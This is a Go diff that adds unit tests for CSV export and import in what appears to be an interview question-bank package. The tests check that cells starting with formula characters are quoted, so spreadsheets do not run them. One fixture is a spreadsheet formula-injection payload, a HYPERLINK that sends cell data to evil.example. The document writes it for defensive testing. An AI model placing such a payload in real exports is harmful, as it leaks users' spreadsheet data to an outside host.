@@ -2,6 +2,7 @@ package question
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"reflect"
 	"strings"
@@ -289,5 +290,55 @@ func TestParseFormat(t *testing.T) {
 func TestEncodeUnknownFormat(t *testing.T) {
 	if err := Encode(&bytes.Buffer{}, "xml", nil); err == nil {
 		t.Fatal("want an error")
+	}
+}
+
+// The question-bank export wrote a text beginning with "=" as it was, which
+// a spreadsheet runs as a formula. Such cells now go out behind a quote and
+// come back without it; a typed leading apostrophe survives both ways.
+func TestCSVExportCarriesFormulasAsText(t *testing.T) {
+	q := storedQuestions(t)[0]
+	q.Big3, q.Big3Order = false, 0 // a station is never one of the Big 3
+	q.Scenario = "-A patient asks for something."
+	q.Text = `=HYPERLINK("http://evil.example/?"&A1,"Why?")`
+	q.Tip = "'Tis the season: @mention the ward."
+	q.FollowUps = []string{"+1 more?", "=2nd line is no cell start"}
+	var buf bytes.Buffer
+	if err := Encode(&buf, FormatCSV, []Question{q}); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := map[string]string{}
+	for i, c := range columns {
+		row[c] = records[1][i]
+		if cell := records[1][i]; cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("column %s starts a formula: %q", c, cell)
+		}
+	}
+	if row["text"] != "'"+q.Text || row["scenario"] != "'"+q.Scenario || row["tip"] != "'"+q.Tip ||
+		row["followUps"] != "'+1 more?\n=2nd line is no cell start" {
+		t.Fatalf("cells %q", row)
+	}
+	back, err := Decode(&buf, FormatCSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(back, []Question{q}) {
+		t.Fatalf("round trip:\n got %#v\nwant %#v", back[0], q)
+	}
+}
+
+// A hand-made or spreadsheet-saved file may hold such quotes too: an import
+// removes only a quote in front of a formula character.
+func TestCSVImportRemovesOnlyTheFormulaQuote(t *testing.T) {
+	qs, err := Decode(strings.NewReader("text,tip,mainTags\n\"'=1+1, or two?\",'Tis a tip.,dental\n"), FormatCSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if qs[0].Text != "=1+1, or two?" || qs[0].Tip != "'Tis a tip." {
+		t.Fatalf("text %q, tip %q", qs[0].Text, qs[0].Tip)
 	}
 }
